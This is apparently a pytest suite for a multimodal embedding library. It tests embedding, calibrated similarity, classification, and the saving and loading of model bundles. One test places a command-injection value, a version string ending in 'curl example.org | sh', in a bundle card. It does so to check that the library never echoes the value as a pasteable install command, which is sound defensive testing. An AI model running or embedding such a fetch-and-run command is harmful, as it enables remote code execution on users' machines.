"""Binder and bundles: embedding, comparing, composing, saving, and loading what strangers saved."""

import json
import os
import socket
import warnings

import numpy as np
import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st
from toy import Cold, Left, Right, registry, view

from geobind import plugins
from geobind.binder import Binder
from geobind.bundles.bundle import build_card
from geobind.errors import CheckpointError, DataError, PluginError, RecipeError
from geobind.plugins import Broken
from geobind.scoring import Calibration, PairScales


@pytest.fixture(autouse=True)
def toy_registry(monkeypatch):
    monkeypatch.setattr(plugins, "registry", registry)


@pytest.fixture(scope="module")
def binder():
    return Binder({"left": Left(), "right": Right()}, 8, seed=0)


LEFTS = [view(i, "left") for i in range(11)]


def test_embeddings_are_unit_length_float32_in_input_order(binder):
    embedding_ND = binder.embed("left", LEFTS)
    assert embedding_ND.shape == (11, 8)
    assert embedding_ND.dtype == torch.float32
    assert torch.allclose(embedding_ND.norm(dim=1), torch.ones(11))
    for i, raw in enumerate(LEFTS):
        assert torch.allclose(binder.embed("left", [raw])[0], embedding_ND[i], atol=1e-6)


@settings(deadline=None, max_examples=20)
@given(size=st.integers(1, 13))
def test_batch_size_does_not_change_the_result(binder, size):
    assert torch.allclose(
        binder.embed("left", LEFTS, batch_size=size), binder.embed("left", LEFTS), atol=1e-6
    )


def test_embed_equals_the_forward_pass_of_training(binder):
    batch = torch.stack([Left().prepare(raw) for raw in LEFTS])
    with torch.no_grad():
        assert torch.equal(binder("left", batch), binder.embed("left", LEFTS))


def test_a_generator_is_many_inputs_and_numpy_on_request(binder):
    embedding_ND = binder.embed("left", (raw for raw in LEFTS), numpy=True, batch_size=4)
    assert isinstance(embedding_ND, np.ndarray)
    assert embedding_ND.shape == (11, 8)


def test_embedding_leaves_training_mode_as_it_was_and_makes_no_graph(binder):
    binder.encoders["left"].trunk.train()
    embedding_ND = binder.embed("left", LEFTS)
    assert binder.encoders["left"].trunk.training
    assert not embedding_ND.requires_grad
    torch.nn.Linear(8, 2)(embedding_ND).sum().backward()  # a probe can be trained on it
    binder.eval()


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (lambda b: b.embed("left", []), "nothing to embed"),
        (lambda b: b.embed("left", [LEFTS[0], (1.0,)]), "input 1 of modality 'left': ten numbers, please"),
        (lambda b: b.embed("left", LEFTS, batch_size=0), "batch_size must be a whole number of at least 1"),
        (lambda b: b.similarity(torch.ones(2, 3), torch.ones(2, 4)), "different widths: 3 and 4"),
        (lambda b: b.compose({}), "nothing to compose"),
        (lambda b: b.compose({"left": LEFTS[:2], "right": LEFTS[:3]}), "equally many inputs"),
        (lambda b: b.compose({"left": LEFTS[:1]}, {"right": 1.0}), "a weight for right, but no input"),
        (lambda b: b.classify("left", LEFTS, {}, through="right"), "no labels"),
        (lambda b: b.classify("left", LEFTS, ["a"], templates=["a photo"]), "every template must contain {}"),
        (
            lambda b: b.classify("left", LEFTS, {"a": [LEFTS[0]]}, temperature=0.0),
            "temperature must be positive",
        ),
    ],
)
def test_what_cannot_be_is_told(binder, call, message):
    with pytest.raises(DataError, match=message.replace("{", r"\{").replace("}", r"\}")):
        call(binder)


def test_an_unknown_modality_is_told_with_those_there_are(binder):
    with pytest.raises(PluginError, match="no modality 'smell'; it has left, right"):
        binder.embed("smell", [1])


def test_an_encoder_of_the_wrong_width_is_told():
    with pytest.raises(PluginError, match=r"encoder of 'left' gives \(1, 9\), not \(batch, 8\)"):
        Binder({"left": Left(wrong_width=True)}, 8).embed("left", LEFTS[:1])


def test_similarity_is_the_cosine_whatever_the_length(binder):
    a, b = torch.randn(3, 5), torch.randn(4, 5)
    expected = torch.nn.functional.cosine_similarity(a[:, None], b[None], dim=-1)
    assert torch.allclose(binder.similarity(7 * a, b.numpy()), expected, atol=1e-6)


SCALES = PairScales(modalities=("left", "right"), temperature=(0.2, 0.4), scale=6.0, bias=-2.0, rows=50)
CALIBRATION = Calibration(fitted_on="split 'val' of rows.csv", pairs=(SCALES,))


@pytest.fixture
def calibrated(tmp_path):
    fresh = Binder({"left": Left(), "right": Right()}, 8, seed=0)
    fresh.card = build_card(fresh, calibration=CALIBRATION)
    return Binder.load(fresh.save(tmp_path / "calibrated"))


def test_a_calibrated_bundle_gives_probabilities_of_matches(calibrated):
    a, b = calibrated.embed("left", LEFTS[:3]), calibrated.embed("right", LEFTS[:5])
    cosine = calibrated.similarity(a, b)
    p = calibrated.similarity(a, b, probability=("left", "right"))
    assert torch.allclose(p, torch.sigmoid(6 * cosine - 2))
    assert torch.allclose(calibrated.similarity(b, a, probability=("right", "left")), p.T)
    rare = calibrated.similarity(a, b, probability=("left", "right"), prior=0.01)
    assert torch.allclose(rare / (1 - rare), p / (1 - p) / 99)


def test_over_a_gallery_the_temperature_is_that_of_the_direction(calibrated):
    a, b = calibrated.embed("left", LEFTS[:3]), calibrated.embed("right", LEFTS[:5])
    there = calibrated.similarity(a, b, probability=("left", "right"), over="gallery")
    back = calibrated.similarity(b, a, probability=("right", "left"), over="gallery")
    assert torch.allclose(there, (calibrated.similarity(a, b) / 0.2).softmax(1))
    assert torch.allclose(back, (calibrated.similarity(b, a) / 0.4).softmax(1))


def test_without_a_calibration_there_are_no_probabilities(binder, calibrated):
    a = binder.embed("left", LEFTS[:2])
    with pytest.raises(
        DataError, match=r"no calibration of left and right is known.*--calibrate SPLIT --keep"
    ):
        binder.similarity(a, a, probability=("left", "right"))
    with pytest.raises(DataError, match=r"no calibration of left and cold .*\(known: left and right\)"):
        calibrated.similarity(a, a, probability=("left", "cold"))
    with pytest.raises(DataError, match="prior must lie between 0 and 1"):
        calibrated.similarity(a, a, probability=("left", "right"), prior=1.0)


def test_classification_takes_the_fitted_temperature_and_says_where_it_is_from(binder, calibrated):
    assert calibrated.temperature("right", "left") == (0.4, "fitted on split 'val' of rows.csv")
    assert binder.temperature("right", "left") == (0.01, "CLIP's; none was fitted for these modalities")
    labels = {"zero": [LEFTS[0]], "one": [LEFTS[1]]}
    fitted = calibrated.classify("right", LEFTS[:3], labels, through="left")
    assert torch.equal(
        fitted, calibrated.classify("right", LEFTS[:3], labels, through="left", temperature=0.4)
    )
    cold = binder.classify("right", LEFTS[:3], labels, through="left")
    assert torch.equal(cold, binder.classify("right", LEFTS[:3], labels, through="left", temperature=0.01))


def test_scales_fitted_to_other_weights_are_not_saved(calibrated, tmp_path):
    assert Binder.load(calibrated.save(tmp_path / "same")).card.calibration == CALIBRATION
    with torch.no_grad():
        next(calibrated.encoders["left"].parameters()).add_(1)
    assert Binder.load(calibrated.save(tmp_path / "changed")).card.calibration is None


def test_a_bundle_made_before_there_was_calibration_loads(bundle):
    card = json.loads((bundle / "binder.json").read_text())
    for field in ("calibration", "data", "author"):
        del card[field]
    (bundle / "binder.json").write_text(json.dumps(card))
    assert Binder.load(bundle).card.calibration is None


@pytest.mark.parametrize("field", [{"temperature": [0.1, -1]}, {"scale": -1.0}, {"bias": "nan"}])
def test_scales_that_cannot_be_are_damage(bundle, field):
    change_card(bundle, calibration={**CALIBRATION.model_dump(), "pairs": [{**SCALES.model_dump(), **field}]})
    with pytest.raises(CheckpointError, match="damaged: calibration"):
        Binder.load(bundle)


def test_classification_finds_the_class_an_example_is_of(binder):
    labels = {"zero": [LEFTS[0]], "one": [LEFTS[1]], "pair": [LEFTS[2], LEFTS[3]]}
    probability_NC = binder.classify("left", LEFTS[:2], labels, through="left", temperature=0.05)
    assert probability_NC.shape == (2, 3)
    assert torch.allclose(probability_NC.sum(1), torch.ones(2))
    assert probability_NC.argmax(1).tolist() == [0, 1]


def test_temperature_sharpens_and_keeps_the_order(binder):
    labels = {str(i): [raw] for i, raw in enumerate(LEFTS[:4])}
    soft, sharp = (
        binder.classify("left", LEFTS[5:6], labels, through="left", temperature=t) for t in (1.0, 0.05)
    )
    assert sharp.max() > soft.max()
    assert sharp.argsort().tolist() == soft.argsort().tolist()


def test_the_weight_of_a_part_alone_changes_no_bit(binder):
    parts = {"left": LEFTS[:2]}
    assert torch.equal(binder.compose(parts, {"left": 0.3}), binder.compose(parts))
    assert torch.allclose(binder.compose(parts), binder.embed("left", LEFTS[:2]), atol=1e-6)


def test_composing_adds_weighted_embeddings_and_normalises(binder):
    left, right = binder.embed("left", LEFTS[:2]), binder.embed("right", LEFTS[2:4])
    composed = binder.compose({"left": LEFTS[:2], "right": LEFTS[2:4]}, {"right": -0.5})
    assert torch.allclose(composed, torch.nn.functional.normalize(left - 0.5 * right, dim=-1), atol=1e-6)


def test_another_modality_leaves_the_others_random_weights_as_they_were():
    torch.manual_seed(123)
    alone = Binder({"right": Right()}, 8, seed=5)
    both = Binder({"left": Left(), "right": Right()}, 8, seed=5)
    assert torch.equal(alone.embed("right", LEFTS), both.embed("right", LEFTS))


def test_a_bundle_gives_the_same_embeddings_without_the_network(binder, tmp_path, monkeypatch):
    monkeypatch.setattr(socket.socket, "connect", lambda *_: pytest.fail("touched the network"))
    folder = binder.save(tmp_path / "bundle")
    assert {path.name for path in folder.iterdir()} == {"binder.json", "model.safetensors", "README.md"}
    for again in (Binder.load(folder), Binder.from_pretrained(folder)):
        assert torch.equal(again.embed("left", LEFTS), binder.embed("left", LEFTS))
        assert again.modalities == binder.modalities
        assert again.card.digests.keys() == {"left", "right"}
    assert "binder.embed" in (folder / "README.md").read_text()


def test_a_bundle_does_not_tell_where_its_author_kept_files(tmp_path):
    from geobind.bundles.bundle import _without_folders

    assert _without_folders({"a": [{"b": os.fspath(tmp_path / "w.safetensors")}], "c": "openai", "d": 1}) == {
        "a": [{"b": "w.safetensors"}],
        "c": "openai",
        "d": 1,
    }


@pytest.fixture
def bundle(binder, tmp_path):
    return binder.save(tmp_path / "bundle")


def change_card(folder, **changes):
    card = json.loads((folder / "binder.json").read_text())
    card.update(changes)
    (folder / "binder.json").write_text(json.dumps(card))


def test_a_bundle_of_another_format_names_the_version_to_install(bundle):
    change_card(bundle, format=99, versions={"geobind": "7.2"})
    with pytest.raises(CheckpointError, match=r"bundle format 99, made with geobind 7\.2.*reads format 1"):
        Binder.load(bundle)


def test_two_plugins_of_the_modality_that_a_bundle_needs_are_not_answered_with_a_third(bundle, monkeypatch):
    clash = "two plugins provide 'right': toy 1.0 [right] and zoo 2.0 [right]; uninstall one"
    source = plugins.Source("right", "zoo", "2.0")
    both = plugins.Registry(
        "modality", {"left": registry().plugins["left"]}, (Broken(source, clash, "right"),)
    )
    monkeypatch.setattr(plugins, "registry", lambda: both)
    with pytest.raises(PluginError, match="uninstall one") as caught:
        Binder.load(bundle)
    assert "pip install" not in str(caught.value)


def test_a_recipe_error_of_an_encoder_names_the_modality():
    class Narrow(Left):
        def encoder(self, width, *, pretrained=True):
            raise RecipeError("test_resnet gives 96 numbers, the recipe's width is 16")

    with pytest.raises(RecipeError, match=r"^modality 'near': test_resnet gives 96 numbers"):
        Binder({"near": Narrow()}, 16)


def test_a_missing_plugin_is_named_with_its_install_command(bundle, monkeypatch):
    only_left = plugins.Registry("modality", {"left": registry().plugins["left"]}, ())
    monkeypatch.setattr(plugins, "registry", lambda: only_left)
    with pytest.raises(
        PluginError, match=r"needs the modality 'right' of toy 1\.0(.|\n)*pip install toy==1\.0"
    ):
        Binder.load(bundle)


def test_a_strangers_version_is_no_part_of_a_command_to_paste(bundle, monkeypatch):
    change_card(bundle, plugins={"right": {"distribution": "toy", "version": "1.0; curl example.org | sh"}})
    only_left = plugins.Registry("modality", {"left": registry().plugins["left"]}, ())
    monkeypatch.setattr(plugins, "registry", lambda: only_left)
    with pytest.raises(PluginError, match="install toy, in the version that its publisher names") as caught:
        Binder.load(bundle)
    assert "pip install" not in str(caught.value)


def test_another_version_of_a_plugin_is_warned_of(bundle, caplog):
    change_card(bundle, plugins={"left": {"distribution": "toy", "version": "0.9"}})
    Binder.load(bundle)
    assert caplog.messages == [f"{bundle}: 'left' was made with toy 0.9; installed is toy 1.0 [left]"]


def test_options_the_plugin_no_longer_takes_are_named(bundle):
    change_card(bundle, modalities={"left": {"gone": 1}, "right": {}})
    with pytest.raises(
        CheckpointError, match=r"toy 1\.0 \[left\] does not take the bundle's options of 'left'.*gone"
    ):
        Binder.load(bundle)


def test_weights_that_do_not_fit_are_named(bundle):
    change_card(bundle, width=9)
    with pytest.raises(CheckpointError, match=r"model\.safetensors: the weights are not this model's"):
        Binder.load(bundle)


@pytest.mark.parametrize("damage", [b"", b"{}", b"\x00\xff", b'{"width": "x", "modalities": {}}'])
def test_a_damaged_card_is_named(bundle, damage):
    (bundle / "binder.json").write_bytes(damage)
    with pytest.raises(CheckpointError, match=r"binder\.json: damaged"):
        Binder.load(bundle)


def test_truncated_weights_are_named(bundle):
    content = (bundle / "model.safetensors").read_bytes()
    (bundle / "model.safetensors").write_bytes(content[: len(content) // 2])
    with pytest.raises(CheckpointError, match=r"model\.safetensors: cannot be read"):
        Binder.load(bundle)


def test_a_folder_that_is_no_bundle_and_a_hub_that_has_none_are_told(tmp_path):
    with pytest.raises(CheckpointError, match=r"not a bundle, binder\.json cannot be read"):
        Binder.load(tmp_path)
    with pytest.raises(CheckpointError, match="the hub gives no such bundle"):
        Binder.from_pretrained("nobody/nothing-of-this-name")


def test_publishing_uploads_exactly_the_bundle(binder, monkeypatch):
    uploaded = {}

    class Hub:
        def create_repo(self, name, **options):
            uploaded.update(name=name, **options)

        def upload_folder(self, *, repo_id, folder_path, **_):
            uploaded["files"] = sorted(os.listdir(folder_path))
            return f"hub://{repo_id}"

    monkeypatch.setattr("huggingface_hub.HfApi", Hub)
    assert binder.push_to_hub("me/mine", private=True) == "hub://me/mine"
    assert uploaded["files"] == ["README.md", "binder.json", "model.safetensors"]
    assert uploaded["private"]


def test_a_bundle_of_the_same_versions_loads_without_a_warning(bundle):
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        Binder.load(bundle)


def test_an_untrained_modality_is_embedded_like_any_other():
    assert Binder({"cold": Cold()}, 8).embed("cold", LEFTS[:3]).shape == (3, 8)


# Some of its modalities -------------------------------------------------------------------------------


def test_only_the_encoders_that_are_asked_for_are_built(binder, tmp_path, monkeypatch):
    folder = binder.save(tmp_path / "bundle")
    built = []
    encoder = Right.encoder
    monkeypatch.setattr(
        Right, "encoder", lambda self, *args, **more: built.append(1) or encoder(self, *args, **more)
    )
    part = Binder.load(folder, modalities=["left"])
    assert list(part.modalities) == list(part.encoders) == ["left"] and not built
    assert torch.equal(part.embed("left", LEFTS), binder.embed("left", LEFTS))
    with pytest.raises(PluginError, match="no modality 'lefd'; did you mean 'left'"):
        Binder.load(folder, modalities=["lefd"])


def test_weights_of_no_modality_are_refused_also_beside_one_that_is_asked_for(binder, tmp_path):
    from safetensors.torch import load_file, save_file

    folder = binder.save(tmp_path / "bundle")
    tensors = load_file(folder / "model.safetensors")
    save_file({**tensors, "third.weight": torch.ones(2)}, folder / "model.safetensors")
    with pytest.raises(CheckpointError, match=r"unexpected.*third\.weight"):
        Binder.load(folder, modalities=["left"])


def test_a_small_bundle_is_loaded_whole(binder, tmp_path):
    base = binder.save(tmp_path / "base")
    small = binder.save(tmp_path / "small", over=base)
    assert list(Binder.load(small, base=base, modalities=["left"]).modalities) == ["left", "right"]
